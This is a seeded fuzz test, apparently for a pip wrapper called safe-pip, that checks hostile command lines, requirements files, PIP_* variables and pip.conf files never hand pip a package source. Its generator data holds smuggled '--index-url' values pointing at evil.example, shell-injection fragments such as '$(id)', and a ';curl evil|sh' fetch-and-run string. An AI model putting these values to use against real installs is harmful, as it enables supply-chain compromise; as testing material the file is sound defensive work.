/**
 * A seeded fuzz test of the two rewriters between the user's input and pip: the command-line
 * rewriter (`parsePipArgs` → `prepareInvocation` → `renderOptions`, plus `buildPipEnv`) and the
 * requirements-file flattener (`readRequirementsFile`).
 *
 * Random command lines and requirements files mix real option names, their prefixes, `=`-forms,
 * clusters, quotes, continuations, comments, `${VAR}`s, nested includes (paths, `file:` and
 * `http:` URLs) and URLs, plus pip configuration files and PIP_* variables. Whatever goes in,
 * either safe-pip refuses it with a usage error, or pip, reading what safe-pip hands it with pip's
 * own rules, finds:
 *  - no package source: no `--index-url`/`-i`/`--pypi-url`, `--extra-index-url`, `--find-links`/`-f`,
 *    `--trusted-host` or `--no-index` (nor any prefix pip would accept for them) on its command line
 *    or in the flattened files, and no PIP_* source variable but PIP_INDEX_URL = the unified index;
 *  - no nested `-r`/`-c` (everything is flattened) and no PIP_REQUIREMENT-like variable;
 *  - the requirements safe-pip classified, in order, and a URL only in one classified "direct".
 *
 * "pip's own rules" are written out below from pip's req_file.py (splitlines, join_lines, comment
 * stripping, ${VAR} expansion, break_args_options, shlex.split, optparse) independently of
 * safe-pip's reader. The generator is a small seeded PRNG (xorshift32): every run is identical,
 * and a failure names the seed and the input. Budget: a few seconds.
 *
 * This file also holds what was rewriter-fuzz.test.ts, a second fuzz of the same property with its
 * own model of pip: its distinct inputs (lines whose ${VAR}s pip would expand again, quoted values
 * hiding sources, more junk characters, deletions, more general options and commands) are in the
 * generators below, and the inputs it found are kept as plain regression cases at the end.
 */
import { after, describe, it } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { SafePipError } from "../../src/core/errors.js";
import type { HttpClient, HttpResponse } from "../../src/core/http.js";
import { parsePipArgs } from "../../src/pip/argv.js";
import { buildPipEnv } from "../../src/pip/env.js";
import { prepareInvocation, renderOptions } from "../../src/pip/invocation.js";
import { emptyInputs, readRequirementsFile, type FlatInputs, type InputRequirement } from "../../src/pip/reqfile.js";
import { cleanupAll, onCleanup, tempDir } from "../helpers/env.js";

after(cleanupAll);

// ---------------------------------------------------------------------------------------------
// Seeded randomness
// ---------------------------------------------------------------------------------------------

class Rng {
  private s: number;
  constructor(seed: number) {
    this.s = (seed * 2654435761) >>> 0 || 1;
  }
  next(): number {
    let x = this.s;
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    this.s = x >>> 0;
    return this.s / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)]!;
  }
  some<T>(n: number, f: () => T): T[] {
    return Array.from({ length: this.int(n + 1) }, f);
  }
}

// ---------------------------------------------------------------------------------------------
// How pip reads a requirements file (pip/_internal/req/req_file.py, Python semantics)
// ---------------------------------------------------------------------------------------------

/** pip gives up on the whole file: nothing is fetched, which is safe. */
class PipRefuses extends Error {}

const PY_WS = "\\t\\n\\x0b\\x0c\\r\\x1c-\\x1f \\x85\\xa0\\u1680\\u2000-\\u200a\\u2028\\u2029\\u202f\\u205f\\u3000";
const PY_COMMENT = new RegExp(`(^|[${PY_WS}]+)#.*$`);
const PY_COMMENT_LINE = new RegExp(`^([${PY_WS}]+)?#`);

/** str.splitlines(): \r\n, \n, \r, \v, \f, \x1c, \x1d, \x1e, \x85, \u2028, \u2029. */
function splitlines(text: string): string[] {
  const out = text.split(/\r\n|[\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]/);
  if (out.length && out[out.length - 1] === "") out.pop();
  return out;
}

function joinLines(lines: string[]): string[] {
  const out: string[] = [];
  let acc: string[] = [];
  for (let line of lines) {
    const isComment = PY_COMMENT_LINE.test(line);
    if (!line.endsWith("\\") || isComment) {
      if (isComment) line = " " + line;
      if (acc.length) {
        acc.push(line);
        out.push(acc.join(""));
        acc = [];
      } else out.push(line);
    } else acc.push(line.replace(/^\\+|\\+$/g, ""));
  }
  if (acc.length) out.push(acc.join(""));
  return out;
}

function pyStrip(s: string): string {
  return s.replace(new RegExp(`^[${PY_WS}]+|[${PY_WS}]+$`, "g"), "");
}

function pipExpand(line: string, env: Record<string, string | undefined>): string {
  for (const m of [...line.matchAll(/\$\{([A-Z0-9_]+)\}/g)]) {
    const v = env[m[1]!];
    if (v) line = line.split(m[0]).join(v);
  }
  return line;
}

/** shlex.split(s) in POSIX mode: whitespace " \t\r\n". */
function shlex(s: string): string[] {
  const out: string[] = [];
  let tok = "";
  let has = false;
  let q: string | undefined;
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (q === "'") {
      if (c === "'") q = undefined;
      else tok += c;
    } else if (q === '"') {
      if (c === '"') q = undefined;
      else if (c === "\\" && (s[i + 1] === '"' || s[i + 1] === "\\")) tok += s[++i];
      else tok += c;
    } else if (" \t\r\n".includes(c)) {
      if (has) out.push(tok);
      tok = "";
      has = false;
    } else if (c === "'" || c === '"') {
      q = c;
      has = true;
    } else if (c === "\\") {
      if (i + 1 >= s.length) throw new PipRefuses("no escaped character");
      tok += s[++i];
      has = true;
    } else {
      tok += c;
      has = true;
    }
  }
  if (q) throw new PipRefuses("no closing quotation");
  if (has) out.push(tok);
  return out;
}

interface LineOpt {
  dest: string;
  long: string[];
  short?: string;
  value: boolean;
}
/** SUPPORTED_OPTIONS + SUPPORTED_OPTIONS_REQ of pip's requirements-file parser. */
const LINE_OPTS: LineOpt[] = [
  { dest: "index-url", long: ["index-url", "pypi-url"], short: "i", value: true },
  { dest: "extra-index-url", long: ["extra-index-url"], value: true },
  { dest: "no-index", long: ["no-index"], value: false },
  { dest: "constraint", long: ["constraint"], short: "c", value: true },
  { dest: "requirement", long: ["requirement"], short: "r", value: true },
  { dest: "editable", long: ["editable"], short: "e", value: true },
  { dest: "find-links", long: ["find-links"], short: "f", value: true },
  { dest: "no-binary", long: ["no-binary"], value: true },
  { dest: "only-binary", long: ["only-binary"], value: true },
  { dest: "prefer-binary", long: ["prefer-binary"], value: false },
  { dest: "require-hashes", long: ["require-hashes"], value: false },
  { dest: "pre", long: ["pre"], value: false },
  { dest: "trusted-host", long: ["trusted-host"], value: true },
  { dest: "use-feature", long: ["use-feature"], value: true },
  { dest: "global-option", long: ["global-option"], value: true },
  { dest: "config-settings", long: ["config-settings"], short: "C", value: true },
  { dest: "hash", long: ["hash"], value: true },
];
const SOURCES = new Set(["index-url", "extra-index-url", "no-index", "find-links", "trusted-host"]);

function optparse(tokens: string[]): Array<{ dest: string; value?: string }> {
  const out: Array<{ dest: string; value?: string }> = [];
  for (let i = 0; i < tokens.length; i++) {
    const t = tokens[i]!;
    if (t === "--") break;
    if (t.startsWith("--")) {
      const eq = t.indexOf("=");
      const name = eq < 0 ? t.slice(2) : t.slice(2, eq);
      const exact = LINE_OPTS.find((o) => o.long.includes(name));
      const pre = LINE_OPTS.filter((o) => o.long.some((l) => l.startsWith(name)));
      const o = exact ?? (pre.length === 1 ? pre[0] : undefined);
      if (!o) throw new PipRefuses(`--${name}`);
      if (!o.value) {
        if (eq >= 0) throw new PipRefuses("flag with value");
        out.push({ dest: o.dest });
      } else if (eq >= 0) out.push({ dest: o.dest, value: t.slice(eq + 1) });
      else if (i + 1 < tokens.length) out.push({ dest: o.dest, value: tokens[++i]! });
      else throw new PipRefuses("needs a value");
    } else if (t.length > 1 && t.startsWith("-")) {
      for (let k = 1; k < t.length; k++) {
        const o = LINE_OPTS.find((x) => x.short === t[k]);
        if (!o) throw new PipRefuses(`-${t[k]}`);
        if (!o.value) {
          out.push({ dest: o.dest });
          continue;
        }
        if (k + 1 < t.length) out.push({ dest: o.dest, value: t.slice(k + 1) });
        else if (i + 1 < tokens.length) out.push({ dest: o.dest, value: tokens[++i]! });
        else throw new PipRefuses("needs a value");
        break;
      }
    }
  }
  return out;
}

/**
 * The requirements pip reads from a file (text and whether editable); a string when pip would read
 * a source or an include from it; null when pip refuses the file (and so fetches nothing).
 */
function pipReads(content: string, pipEnv: Record<string, string>): Array<{ text: string; editable: boolean }> | string | null {
  const reqs: Array<{ text: string; editable: boolean }> = [];
  try {
    for (let line of joinLines(splitlines(content))) {
      line = pyStrip(line.replace(PY_COMMENT, ""));
      if (!line) continue;
      line = pipExpand(line, pipEnv);
      const words = line.split(" ");
      const cut = words.findIndex((w) => w.startsWith("-"));
      const args = (cut < 0 ? words : words.slice(0, cut)).join(" ");
      const opts = optparse(shlex(cut < 0 ? "" : words.slice(cut).join(" ")));
      for (const o of opts) {
        if (SOURCES.has(o.dest)) return `pip reads a package source --${o.dest}${o.value === undefined ? "" : " " + o.value}`;
        if (o.dest === "requirement" || o.dest === "constraint") return `pip reads a nested --${o.dest} ${o.value}`;
      }
      const e = opts.find((o) => o.dest === "editable");
      if (args) reqs.push({ text: args, editable: false });
      else if (e) reqs.push({ text: e.value!, editable: true });
    }
  } catch (err) {
    if (err instanceof PipRefuses) return null;
    throw err;
  }
  return reqs;
}

const URL_IN = /[a-z][a-z0-9+.-]*:\/\/|^file:|^(git|hg|svn|bzr)\+|@\s*[a-z][a-z0-9+.-]*:/i;

/** Every violation of the property for one flattened file, or undefined. */
function checkFile(content: string, inputs: InputRequirement[], pipEnv: Record<string, string>): string | undefined {
  const reqs = pipReads(content, pipEnv);
  if (typeof reqs === "string") return reqs;
  if (reqs === null) return undefined; // pip rejects the file before fetching anything
  if (reqs.length !== inputs.length) return `pip reads ${reqs.length} requirements, safe-pip classified ${inputs.length}`;
  for (const [i, r] of reqs.entries()) {
    const input = inputs[i]!;
    const want = input.req.kind === "local-project" ? [input.req.text.trim(), input.req.path] : [input.req.text.trim()];
    if (!want.includes(r.text.trim())) return `pip reads requirement ${JSON.stringify(r.text)}, safe-pip classified ${JSON.stringify(want[0])}`;
    if (r.editable !== input.editable) return `editable mismatch for ${JSON.stringify(r.text)}`;
    // A URL in a marker's quoted string is not a location; anywhere else it must be a direct one.
    const located = r.text.replace(/'[^']*'|"[^"]*"/g, "''");
    if (URL_IN.test(located) && input.req.kind !== "direct") return `URL in ${JSON.stringify(r.text)}, classified ${input.req.kind}`;
  }
  return undefined;
}

function files(inputs: FlatInputs): { requirements: string; constraints: string } {
  const req = [...inputs.optionLines, ...inputs.requirementLines];
  return { requirements: req.length ? req.join("\n") + "\n" : "", constraints: inputs.constraintLines.length ? inputs.constraintLines.join("\n") + "\n" : "" };
}

function checkInputs(inputs: FlatInputs, pipEnv: Record<string, string>): string | undefined {
  const f = files(inputs);
  return checkFile(f.requirements, inputs.inputs.filter((i) => !i.constraint), pipEnv) ?? checkFile(f.constraints, inputs.inputs.filter((i) => i.constraint), pipEnv);
}

// ---------------------------------------------------------------------------------------------
// How pip reads its command line and environment (conservatively)
// ---------------------------------------------------------------------------------------------

const SOURCE_LONG = ["index-url", "pypi-url", "extra-index-url", "find-links", "trusted-host", "no-index"];
const SOURCE_VARS = /^PIP_(INDEX_URL|PYPI_URL|EXTRA_INDEX_URL|FIND_LINKS|TRUSTED_HOST|NO_INDEX|REQUIREMENT|CONSTRAINT|EDITABLE|BUILD_CONSTRAINT)$/;

function checkArgv(argv: string[]): string | undefined {
  for (const a of argv) {
    if (a === "--") return "a -- in the rebuilt command line";
    if (a.startsWith("--")) {
      const name = a.slice(2).split("=")[0]!;
      if (SOURCE_LONG.some((l) => l.startsWith(name))) return `pip reads ${JSON.stringify(a)} as a source`;
      if (["requirement", "constraint", "editable"].some((l) => l.startsWith(name))) return `pip reads ${JSON.stringify(a)} as an input`;
    } else if (a.startsWith("-") && a !== "-") return `pip reads ${JSON.stringify(a)} as short options`;
  }
  return undefined;
}

function checkPipEnv(env: Record<string, string>, indexUrl: string): string | undefined {
  for (const [k, v] of Object.entries(env)) {
    if (k === "PIP_INDEX_URL") {
      if (v !== indexUrl) return `PIP_INDEX_URL is ${v}`;
    } else if (SOURCE_VARS.test(k)) return `pip's environment has ${k}=${v}`;
  }
  if (env.PIP_CONFIG_FILE !== "/dev/null") return "pip would read a configuration file";
  return undefined;
}

// ---------------------------------------------------------------------------------------------
// Generators
// ---------------------------------------------------------------------------------------------

const EVIL = ["http://evil.example/simple/", "https://u:tok@evil.example/s/", "file:///tmp/evil", "/tmp/wheels", "evil.example", "http://127.0.0.1:9/"];
const FILE_SOURCE = ["--index-url", "--index", "--ind", "--i", "--pypi-url", "--pypi", "--extra-index-url", "--extra", "--e", "--find-links", "--find", "--f", "--trusted-host", "--tru", "--t", "--no-index", "--no-i", "-i", "-f"];
const CLI_SOURCE = [...FILE_SOURCE, "--extra-index", "--index-u", "--find-l", "--trusted", "--no-in", "-Ui", "-qf", "-vUi", "-Uqf"];
const NAMES = ["requests", "Acme_Lib", "acme.lib", "x", "zope.interface", "a-b_c.d", "r\u0435quests", "foo9"];
const SPEC = ["", "==1.0", ">=1,<2", " (>=1)", "~=2.1", "===odd", "==", "; python_version < '3.9'", ';os_name=="nt"', "; extra == \"x\" and sys_platform != 'win32'", ";curl evil|sh", "; $(id)", '; os_name == " --index-url=http://evil.example/ " or os_name == "a"'];
const EXTRAS = ["", "[socks]", "[a, b]", "[]", "[a --index-url=x]", "[$(id)]"];
const DIRECT = ["https://files.example/p-1.0-py3-none-any.whl", "git+https://git.example/p.git@v1#egg=p", "file:///tmp/p-1.0.tar.gz", "./p-1.0-py3-none-any.whl", "hg+https://hg.example/p"];
const LOCAL = ["./proj", ".", "proj", "./proj dir", "./missing"];
const KEEP_LINES = ["--pre", "--prefer-binary", "--require-hashes", "--only-binary=:all:", "--only-binary :none:", "--no-binary=foo", "--use-feature=truststore", "--pr", "--only", "--req", "--no-b=y", "--require"];
/** Option values that hide a source behind quotes or a backslash: they must stay one value. */
const QUOTED_VALUES = ["'x --index-url=http://evil.example/'", '"a --find-links=/tmp/evil"', "'a'\"'\"' --no-index'", '"a\\" --index-url=http://evil/"', "x\\ --trusted-host=evil"];
/** Lines whose meaning depends on ${VAR}s (pip expands them again in what safe-pip writes). */
const VAR_LINES = ["--only-binary=${V1}", "--no-binary ${V2}", "--use-feature='${V1}'", "-e ${V1}", 'foo; extra == "${V2}"', "foo==1.0 --hash=sha256:${V1}", "${V1}", "foo ${V2}", "-C ${V1}=x", "requests>=${V2}"];
const SMUGGLED = ["x --index-url=http://evil.example/", "a -i http://evil.example/", "'b' --no-index", 'c" --find-links="/tmp/wheels', "d\\ --trusted-host=evil.example"];
const PER_REQ = ["--hash=sha256:" + "0".repeat(64), "--hash sha256:ab", "-C k=v", "--config-settings=a=b", "--config-settings='a=b c'", "--global-option=--x", "--ha=md5:1", "--hash"];
const JUNK = ["#", " #x", "\\", "'", '"', "${V1}", "${V2}", "${UNSET}", "${DIR}", "\t", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\xa0", ";", "|", "&&", "--", "-", " -", "=", ",", "@", " @ ", "\u0435", "\0", "`id`", "$HOME", "$(id)", "\\\\", "  "];
const ENV_VALUES = ["requests", "", "-r f1.txt", "x\n--trusted-host=evil", "--index-url=http://evil.example/", " -i http://evil.example/", "x\x1c--index-url=http://evil.example/", "a' --find-links=/tmp/w '", '" --no-index "', "${V2}", "y\\", "z # c", "u\u2028--trusted-host=evil", "http://evil.example/simple/", "${PIP_INDEX_URL}"];

function withValue(r: Rng, opt: string, values: readonly string[]): string {
  if (/^--no-i/.test(opt) || (!opt.startsWith("--") && !/[if]$/.test(opt))) return opt;
  const v = r.pick(values);
  if (opt.startsWith("--")) return r.pick([`${opt} ${v}`, `${opt}=${v}`, `${opt}='${v}'`, `${opt}="${v}"`]);
  return r.pick([`${opt} ${v}`, `${opt}${v}`, `${opt}  ${v}`]);
}

function requirement(r: Rng): string {
  switch (r.int(6)) {
    case 0:
      return r.pick(DIRECT);
    case 1:
      return `${r.pick(NAMES)} @ ${r.pick(DIRECT)}`;
    case 2:
      return r.pick(LOCAL);
    default:
      return `${r.pick(NAMES)}${r.pick(EXTRAS)}${r.pick(SPEC)}`;
  }
}

/** One line of a requirements file; `n` files exist (f0 … f{n-1}), some also served over http. */
function fileLine(r: Rng, n: number): string {
  switch (r.int(10)) {
    case 0:
    case 1:
    case 2:
      return requirement(r);
    case 3:
      return `${requirement(r)} ${r.pick(PER_REQ)}${r.chance(0.3) ? " " + withValue(r, r.pick(FILE_SOURCE), EVIL) : ""}`;
    case 4:
      return withValue(r, r.pick(FILE_SOURCE), EVIL);
    case 5:
      if (r.chance(0.2)) return r.pick(KEEP_LINES) + "=" + r.pick(QUOTED_VALUES);
      return r.chance(0.5) ? r.pick(KEEP_LINES) : `--only-binary=${r.pick(["'", '"', ""])}${r.pick(SMUGGLED)}${r.pick(["'", '"', ""])}`;
    case 6: {
      const f = `f${r.int(n)}.txt`;
      return r.pick([`-r ${f}`, `-c ${f}`, `--requirement=${f}`, `-r${f}`, `--constraint ${f}`, `-r \${DIR}/${f}`, `-r ${pathToFileURL(join(BASE, f))}`, `-r http://files.test/${f}`, `-r http://files.test/missing.txt`, `--req ${f}`, "-r nope.txt"]);
    }
    case 7:
      return r.pick(["-e ./proj", "--editable=./proj", "-e 'proj dir'", "-e git+https://git.example/p.git#egg=p", "-e ./missing", `-e ${r.pick(SMUGGLED)}`, "-e"]);
    case 8:
      if (r.chance(0.5)) return r.pick(VAR_LINES);
      return r.pick(["# comment", "  # comment \\", "", " ", "#--index-url=http://evil.example/"]);
    default:
      return r.some(3, () => r.pick([...JUNK, requirement(r), r.pick(FILE_SOURCE), r.pick(EVIL), r.pick(SMUGGLED)])).join(r.pick(["", " "]));
  }
}

/** Inserts junk somewhere, or cuts a piece out. */
function mutate(r: Rng, s: string): string {
  if (r.chance(0.2)) {
    const at = r.int(s.length + 1);
    s = s.slice(0, at) + r.pick(JUNK) + s.slice(at);
  }
  if (r.chance(0.05) && s.length > 2) {
    const at = r.int(s.length - 1);
    s = s.slice(0, at) + s.slice(at + 1 + r.int(3));
  }
  return s;
}

function fileText(r: Rng, n: number): string {
  return r
    .some(5, () => mutate(r, fileLine(r, n)) + r.pick(["\n", "\n", "\n", "\r\n", " \\\n", "\\\n", "\x0c", "\u2028", "\x1c"]))
    .join("");
}

const GENERAL = ["-v", "-q", "-qq", "--isolated", "--no-input", "--proxy=http://proxy.example:3128", "--cert=/etc/ssl/x.pem", "--timeout=5", "--log=/tmp/x.log", "--trusted-host=evil.example", "--trusted-host", "-i", "-iX", "--", "--bogus", "--no-cache-dir", "--python=/usr/bin/python3"];
const COMMANDS = ["install", "install", "install", "download", "wheel", "index", "lock", "list", "show"];
const KEEP_CLI = ["-U", "-q", "-qq", "--pre", "--no-deps", "--user", "--target=/tmp/t", "-t", "--only-binary=:all:", "--no-binary", "-C", "--config-settings=a=b", "--config-settings", "--force-reinstall", "-Uq", "-qqU", "-Uqt/tmp/t", "-qi", "-Ui", "-vf", "-Uf./w", "--isolated", "--upgrade-strategy=eager", "--report=-", "--dry-run", "--no-b", "--no-", "--e", "--dest=/tmp/d", "-d", "--json", "--ta", "--prefer", "--client-cert=/x", "--build-constraint=c.txt", "--group=dev"];

function commandLine(r: Rng, n: number): string[] {
  const argv: string[] = [];
  for (const g of r.some(2, () => r.pick(GENERAL))) argv.push(...(g === "-i" ? ["-i", r.pick(EVIL)] : g === "--trusted-host" ? [g, "evil"] : [g]));
  argv.push(r.pick(COMMANDS));
  if (argv.at(-1) === "index") argv.push(r.pick(["versions", "versions", "--json"]));
  for (let k = 1 + r.int(6); k > 0; k--) {
    switch (r.int(7)) {
      case 0:
        argv.push(...withValue(r, r.pick(CLI_SOURCE), [...EVIL, ...SMUGGLED]).split(/(?<=^\S+) /));
        break;
      case 1: {
        const o = r.pick(KEEP_CLI);
        argv.push(o);
        if (["-t", "-C", "--no-binary", "-d", "--ta"].includes(o)) argv.push(r.pick(["/tmp/x", ":all:", "k=v", r.pick(SMUGGLED), "-i"]));
        break;
      }
      case 2:
        argv.push(...r.pick([["-r", `f${r.int(n)}.txt`], [`--requirement=f${r.int(n)}.txt`], [`-rf${r.int(n)}.txt`], ["-c", `f${r.int(n)}.txt`], ["-e", r.pick([...LOCAL, r.pick(DIRECT), r.pick(SMUGGLED)])]]));
        break;
      case 3:
        // After --, or a ${VAR} pip would expand in what safe-pip writes.
        argv.push(r.chance(0.5) ? "--" : r.pick(['foo; extra == "${V2}"', "${V1}", "--only-binary=${V1}", "--config-settings=${V2}", "-e", "="]));
        break;
      case 4:
        argv.push(r.pick([...SMUGGLED, "--index-url=http://evil.example/", "-i", "-", r.pick(EVIL)]));
        break;
      default:
        argv.push(mutate(r, requirement(r)));
    }
  }
  return argv;
}

// ---------------------------------------------------------------------------------------------
// Fixtures shared by every case: a working directory with local projects and the files f0…fN.
// ---------------------------------------------------------------------------------------------

/** Thousands of small files are written: on a tmpfs when there is one, so the disk never sets the pace. */
const BASE = existsSync("/dev/shm") ? mkdtempSync("/dev/shm/safe-pip-fuzz-") : tempDir("safe-pip-fuzz-");
onCleanup(() => rmSync(BASE, { recursive: true, force: true }));
mkdirSync(join(BASE, "proj"));
mkdirSync(join(BASE, "proj dir"));
writeFileSync(join(BASE, "p-1.0-py3-none-any.whl"), "");
const N = 4;

/** Remote requirements files: f0…fN served from memory (what the current case wrote), 404 otherwise. */
function stubHttp(remote: Map<string, string>): HttpClient {
  const get = async (url: string): Promise<HttpResponse> => {
    const body = remote.get(new URL(url).pathname.slice(1));
    return { status: body === undefined ? 404 : 200, url, contentType: "text/plain", body: Buffer.from(body ?? "not found") };
  };
  return { get, close: async () => undefined } as unknown as HttpClient;
}

function caseEnv(r: Rng): Record<string, string> {
  const env: Record<string, string> = {
    HOME: join(BASE, "home"),
    XDG_CONFIG_HOME: join(BASE, "xdg"),
    XDG_CONFIG_DIRS: join(BASE, "xdg-dirs"),
    DIR: BASE,
    V1: r.pick(ENV_VALUES),
    V2: r.pick(ENV_VALUES),
    PATH: "/usr/bin:/bin",
  };
  // pip's own variables: sources to remove, inputs to flatten, harmless settings to keep.
  if (r.chance(0.15)) env[r.pick(["PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "PIP_TRUSTED_HOST", "PIP_NO_INDEX", "PIP_PYPI_URL"])] = r.pick(EVIL);
  if (r.chance(0.1)) env[r.pick(["PIP_REQUIREMENT", "PIP_CONSTRAINT"])] = join(BASE, `f${r.int(N)}.txt`);
  if (r.chance(0.1)) env.PIP_ONLY_BINARY = r.pick([":all:", ...SMUGGLED]);
  return env;
}

/** Sometimes a user pip.conf with sources and inputs in several sections. */
function maybeConfig(r: Rng): void {
  const file = join(BASE, "xdg", "pip", "pip.conf");
  if (!r.chance(0.1)) return rmSync(file, { force: true });
  const lines = ["[global]", `extra-index-url = ${r.pick(EVIL)}`, `    ${r.pick(EVIL)}`, r.pick(["timeout = 5", "find-links = /tmp/w", `requirement = ${join(BASE, "f1.txt")}`, "no-index = true"]), "[install]", `index-url = ${r.pick(EVIL)}`, r.pick(["pre = true", `constraint = ${join(BASE, "f2.txt")}`, "trusted-host = evil.example"])];
  writeFileSync(file, lines.join("\n") + "\n");
}
mkdirSync(join(BASE, "xdg", "pip"), { recursive: true });
mkdirSync(join(BASE, "home"), { recursive: true });

function isUsage(err: unknown): boolean {
  return err instanceof SafePipError && err.code === "USAGE";
}

function failure(kind: string, seed: number, input: unknown, problem: string): string {
  return `${kind} fuzz, seed ${seed}: ${problem}\n${JSON.stringify(input, null, 1)}`;
}

const INDEX = "http://127.0.0.1:1/simple/";
const pip = { python: "python3", version: "25.1", sysPrefix: join(BASE, "sys-prefix") };

describe("fuzz: whatever goes in, pip is handed no source (seeded, deterministic)", () => {
  it("requirements files, nested through paths, file: and http: URLs", async () => {
    const counts = { usage: 0, ok: 0 };
    for (let seed = 1; seed <= 1500; seed++) {
      const r = new Rng(seed);
      const remote = new Map<string, string>();
      const texts: string[] = [];
      for (let i = 0; i < N; i++) {
        const t = fileText(r, N);
        texts.push(t);
        writeFileSync(join(BASE, `f${i}.txt`), t);
        remote.set(`f${i}.txt`, t);
      }
      const env = caseEnv(r);
      const out = emptyInputs();
      const top = r.pick([join(BASE, "f0.txt"), pathToFileURL(join(BASE, "f0.txt")).toString(), "http://files.test/f0.txt"]);
      try {
        await readRequirementsFile(top, r.chance(0.2) ? "constraint" : "requirement", { env, cwd: BASE, http: stubHttp(remote), out, origin: "fuzz" });
      } catch (err) {
        if (isUsage(err)) {
          counts.usage++;
          continue;
        }
        assert.fail(failure("requirements-file", seed, { top, texts, env }, `threw ${err instanceof Error ? err.stack : String(err)}`));
      }
      counts.ok++;
      const pipEnv = buildPipEnv({ base: env, settings: { keep: new Map(), inputs: [], notes: [], files: [] }, indexUrl: INDEX, indexOrigin: "http://127.0.0.1:1", allowDirect: false });
      const problem = checkInputs(out, pipEnv);
      if (problem) assert.fail(failure("requirements-file", seed, { top, texts, env, flattened: files(out) }, problem));
    }
    // Both outcomes must be common, or the generator tests nothing.
    assert.ok(counts.usage > 150 && counts.ok > 150, JSON.stringify(counts));
  });

  it("command lines, with PIP_* variables and pip configuration files", async () => {
    const counts = { usage: 0, ok: 0, passThrough: 0 };
    for (let seed = 1; seed <= 1500; seed++) {
      const r = new Rng(seed + 1_000_003);
      const remote = new Map<string, string>();
      for (let i = 0; i < N; i++) {
        const t = fileText(r, N);
        writeFileSync(join(BASE, `f${i}.txt`), t);
        remote.set(`f${i}.txt`, t);
      }
      maybeConfig(r);
      const argv = commandLine(r, N);
      const env = caseEnv(r);
      let rebuilt: string[];
      let pipEnv: Record<string, string>;
      let inputs: FlatInputs;
      try {
        const parsed = parsePipArgs(argv);
        if (!parsed.command || !["install", "download", "wheel", "index", "lock"].includes(parsed.command)) {
          counts.passThrough++;
          continue;
        }
        const { invocation: inv } = await prepareInvocation(parsed, { env, cwd: BASE, pip, makeHttp: () => stubHttp(remote) });
        // As commands/pip.ts rebuilds pip's command line (safe-pip's own options after these).
        rebuilt = [...renderOptions(inv.general), inv.command, ...renderOptions(inv.options, ["report", "dry-run"]), ...(inv.command === "index" ? inv.args : [])];
        pipEnv = buildPipEnv({ base: env, settings: inv.settings, indexUrl: INDEX, indexOrigin: "http://127.0.0.1:1", allowDirect: false });
        inputs = inv.inputs;
      } catch (err) {
        if (isUsage(err)) {
          counts.usage++;
          continue;
        }
        assert.fail(failure("command-line", seed, { argv, env }, `threw ${err instanceof Error ? err.stack : String(err)}`));
      }
      counts.ok++;
      const problem = checkArgv(rebuilt) ?? checkPipEnv(pipEnv, INDEX) ?? checkInputs(inputs, pipEnv);
      if (problem) assert.fail(failure("command-line", seed, { argv, env, rebuilt, flattened: files(inputs) }, problem));
    }
    assert.ok(counts.usage > 150 && counts.ok > 150, JSON.stringify(counts));
  });
});

describe("inputs the fuzz found (kept as plain regression cases)", () => {
  const read = async (text: string, env: Record<string, string> = {}) => {
    const out = emptyInputs();
    await readRequirementsFile("http://files.test/r.txt", "requirement", { env, cwd: "/", http: stubHttp(new Map([["r.txt", text]])), out, origin: "test" });
    return out;
  };

  it("an option value holding spaces is written quoted, so pip reads one value and no source", async () => {
    const out = await read(`--only-binary="x --index-url=http://evil.example/"\n--no-binary=:all:\\ --trusted-host=evil\nfoo --config-settings="a=b --find-links=/tmp/evil"\n`);
    assert.deepEqual(out.optionLines, ["--only-binary='x --index-url=http://evil.example/'", "--no-binary=':all: --trusted-host=evil'"]);
    assert.deepEqual(out.requirementLines, ["foo --config-settings='a=b --find-links=/tmp/evil'"]);
    assert.equal(checkInputs(out, {}), undefined);
  });

  it("a value pip would split into lines, or expand again, is a usage error", async () => {
    await assert.rejects(read("--only-binary=${V}\n", { V: "x\x1c--index-url=http://evil.example/" }), /r\.txt:1: .* cannot be passed to pip safely: it holds a line break$/);
    await assert.rejects(read("--only-binary=${V}\n", { V: "${W}", W: "x' --index-url=http://evil.example/ '" }), /pip would expand \$\{W\} in it again$/);
  });

  it("lines are split and joined as pip does: Python's line breaks, and a comment line never continues", async () => {
    const out = await read("# a comment \\\nrequests\ffoo\x1cbar\\\n  >=1\n");
    assert.deepEqual(out.requirementLines, ["requests", "foo", "bar  >=1"]);
  });

  it("`pip index` arguments that look like options are refused; a local -e path keeps its spaces", async () => {
    const env = { PIP_CONFIG_FILE: "/dev/null" };
    const http = () => stubHttp(new Map());
    await assert.rejects(
      prepareInvocation(parsePipArgs(["index", "versions", "--", "--index-url=http://evil.example/", "requests"]), { env, cwd: "/", pip, makeHttp: http }),
      /invalid argument "--index-url=http:\/\/evil\.example\/" for pip index: looks like an option/,
    );
    const { invocation } = await prepareInvocation(parsePipArgs(["install", "-e", "proj dir"]), { env, cwd: BASE, pip, makeHttp: http });
    assert.deepEqual(invocation.inputs.requirementLines, [`-e '${join(BASE, "proj dir")}'`]);
  });
});
